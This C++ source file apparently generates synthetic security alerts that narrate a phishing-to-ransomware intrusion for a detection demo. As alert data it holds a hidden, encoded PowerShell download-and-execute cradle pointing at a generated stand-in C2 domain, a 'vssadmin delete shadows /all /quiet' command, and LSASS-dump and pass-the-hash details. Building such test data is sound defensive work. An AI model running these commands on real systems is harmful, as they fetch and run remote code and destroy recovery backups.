// A forged invoice opens a document, PowerShell, a beacon; in the night the file server, its shadow copies,
// its files.
#include "demo/stories.h"

namespace tocsin::demo {
namespace {

using std::chrono::hours;
using std::chrono::minutes;
using std::chrono::seconds;

struct Cast {
  const Person& victim;
  const Host& workstation;
  const Host& file_server;
  std::string document;
  std::string document_hash;
  std::string c2_ip;
  std::string c2_domain;
  std::string sender_ip;
};

Cast make_cast(StoryWriter& story) {
  auto scene = story.scene();
  const auto& victim = scene.someone_in("Finance");
  return {victim,
          story.company().workstation_of(victim),
          story.company().hosts[story.company().file_server],
          "Overdue_Invoice_" + story.random().digits(5) + ".docm",
          story.random().hex(64),
          story.random().public_ip(),
          "cdn-" + story.random().letters(6) + "-assets.net",
          story.random().public_ip()};
}

void deliver(StoryWriter& story, const Cast& cast) {
  auto scene = story.scene();
  story.send(defender(
      scene, {.at = story.at(),
              .title = "Email messages containing malicious file delivered",
              .description = "A message with the attachment " + cast.document + " was delivered to " +
                             cast.victim.email + " and identified as malicious after delivery.",
              .category = "InitialAccess",
              .severity = "medium",
              .service = "microsoftDefenderForOffice365",
              .techniques = {attack::kSpearphishing},
              .evidence = {mail_evidence(scene, {"accounting@nordwind-freight-billing.com", cast.sender_ip,
                                                 cast.victim.email, "Overdue invoice - final reminder"}),
                           file_evidence("", cast.document, cast.document_hash),
                           user_evidence(scene, cast.victim)}}));
}

void open_document(StoryWriter& story, const Cast& cast) {
  auto scene = story.scene();
  const auto folder = "C:\\Users\\" + cast.victim.login + "\\Downloads";
  story.after(minutes(17));
  story.send(defender(
      scene,
      {.at = story.at(),
       .title = "Office application ran a macro from a document that came by mail",
       .description = "WINWORD.EXE on " + cast.workstation.name + " ran macro code of " + cast.document + ".",
       .category = "Execution",
       .severity = "medium",
       .techniques = {attack::kMaliciousFile},
       .evidence = {device_evidence(cast.workstation), user_evidence(scene, cast.victim),
                    file_evidence(folder, cast.document, cast.document_hash)}}));
  const auto script = "IEX (New-Object Net.WebClient).DownloadString('http://" + cast.c2_domain + "/a/" +
                      story.random().hex(6) + "')";
  story.after(seconds(40));
  story.send(defender(
      scene,
      {.at = story.at(),
       .title = "Suspicious PowerShell command line",
       .description = "A PowerShell process with an encoded command was started by an Office application.",
       .category = "Execution",
       .severity = "high",
       .techniques = {attack::kPowerShell},
       .evidence = {device_evidence(cast.workstation), user_evidence(scene, cast.victim),
                    process_evidence(scene, cast.workstation, &cast.victim,
                                     {"powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
                                      "powershell.exe -nop -w hidden -enc " + encoded_command(script),
                                      "WINWORD.EXE", story.random().hex(64)})}}));
}

void beacon(StoryWriter& story, const Cast& cast) {
  story.send(suricata(story.scene(),
                      {.at = story.at(),
                       .signature_id = 2848101,
                       .signature = "ET MALWARE Beacon Checkin over HTTP with Malleable Profile",
                       .category = "Malware Command and Control Activity Detected",
                       .severity = 1,
                       .source = {cast.workstation.ip, story.random().ephemeral_port()},
                       .destination = {cast.c2_ip, 80},
                       .app = "http",
                       .app_fields = {{"hostname", cast.c2_domain},
                                      {"url", "/api/v2/status?sid=" + story.random().hex(8)},
                                      {"http_user_agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"},
                                      {"http_method", "GET"},
                                      {"status", 200}},
                       .techniques = {attack::kWebProtocols}}));
}

void dump_credentials(StoryWriter& story, const Cast& cast) {
  auto scene = story.scene();
  story.send(wazuh(
      scene,
      {.at = story.at(),
       .level = 12,
       .rule_id = "92900",
       .description = "Lsass process was accessed by rundll32.exe with read permissions, possible "
                      "credential dump",
       .groups = {"sysmon", "sysmon_eid10_detections", "windows"},
       .agent = &cast.workstation,
       .decoder = "windows_eventchannel",
       .location = "EventChannel",
       .data = windows_event(scene, cast.workstation, 10, "Microsoft-Windows-Sysmon/Operational", story.at(),
                             {{"sourceImage", "C:\\Windows\\System32\\rundll32.exe"},
                              {"targetImage", "C:\\Windows\\System32\\lsass.exe"},
                              {"grantedAccess", "0x1010"},
                              {"sourceUser", story.company().netbios + '\\' + cast.victim.login}}),
       .techniques = {attack::kLsass}}));
}

void move_to_file_server(StoryWriter& story, const Cast& cast, const Person& admin) {
  auto scene = story.scene();
  story.send(defender(scene, {.at = story.at(),
                              .title = "Suspected identity theft (pass-the-hash)",
                              .description = admin.name + "'s hash was used from " + cast.workstation.name +
                                             " to sign in to " + cast.file_server.name + '.',
                              .category = "LateralMovement",
                              .severity = "high",
                              .service = "microsoftDefenderForIdentity",
                              .techniques = {attack::kPassTheHash},
                              .evidence = {user_evidence(scene, admin), device_evidence(cast.workstation),
                                           device_evidence(cast.file_server)}}));
  story.after(minutes(6));
  story.send(splunk(scene, {.at = story.at(),
                            .search_name = "Endpoint - Remote Service Creation Over SMB - Rule",
                            .severity = "high",
                            .fields = {{"src", cast.workstation.ip},
                                       {"dest", cast.file_server.name},
                                       {"user", admin.login},
                                       {"service_name", "WinUpd" + story.random().hex(4)},
                                       {"signature_id", "7045"}},
                            .techniques = {attack::kAdminShares}}));
}

void encrypt(StoryWriter& story, const Cast& cast, const Person& admin) {
  auto scene = story.scene();
  story.send(
      defender(scene, {.at = story.at(),
                       .title = "Backup and shadow copies were deleted",
                       .description = "vssadmin.exe deleted all volume shadow copies on " +
                                      cast.file_server.name + ", as ransomware does before it encrypts.",
                       .category = "Impact",
                       .severity = "high",
                       .techniques = {attack::kInhibitRecovery},
                       .evidence = {device_evidence(cast.file_server), user_evidence(scene, admin),
                                    process_evidence(scene, cast.file_server, &admin,
                                                     {"vssadmin.exe", "C:\\Windows\\System32",
                                                      "vssadmin.exe delete shadows /all /quiet", "cmd.exe",
                                                      story.random().hex(64)})}}));
  const auto path = "d:\\shares\\finance\\2026\\ledger_" + story.random().digits(4) + ".xlsx.nmlock";
  story.after(minutes(4));
  story.send(wazuh(
      scene, {.at = story.at(),
              .level = 15,
              .rule_id = "100620",
              .description = "Ransomware: more than 200 files renamed to one unknown extension in a minute",
              .groups = {"syscheck", "ransomware", "local"},
              .agent = &cast.file_server,
              .decoder = "syscheck_integrity_changed",
              .location = "syscheck",
              .full_log = "File '" + path + "' added\nMode: realtime\n",
              .syscheck = {{"path", path},
                           {"event", "added"},
                           {"mode", "realtime"},
                           {"uname_after", admin.login},
                           {"sha256_after", story.random().hex(64)}},
              .techniques = {attack::kEncryption}}));
  story.after(minutes(3));
  story.send(
      sentinel(scene, {.at = story.at(),
                       .name = "Possible ransomware activity detected on a file server",
                       .description = "Files of many users were rewritten on " + cast.file_server.name +
                                      " shortly after its shadow copies were deleted.",
                       .severity = "High",
                       .techniques = {attack::kEncryption},
                       .entities = {sentinel_host(story.company(), cast.file_server),
                                    sentinel_account(story.company(), admin)}}));
}

}  // namespace

void write_phishing_ransomware(StoryWriter& story) {
  const auto cast = make_cast(story);
  const auto& admin = story.scene().an_admin();
  deliver(story, cast);
  open_document(story, cast);
  for (int i = 0; i < 4; ++i) {
    story.after(i == 0 ? minutes(2) : minutes(71));
    beacon(story, cast);
  }
  dump_credentials(story.after(minutes(35)), cast);
  move_to_file_server(story.after(hours(11)), cast, admin);
  encrypt(story.after(minutes(48)), cast, admin);
}

}  // namespace tocsin::demo
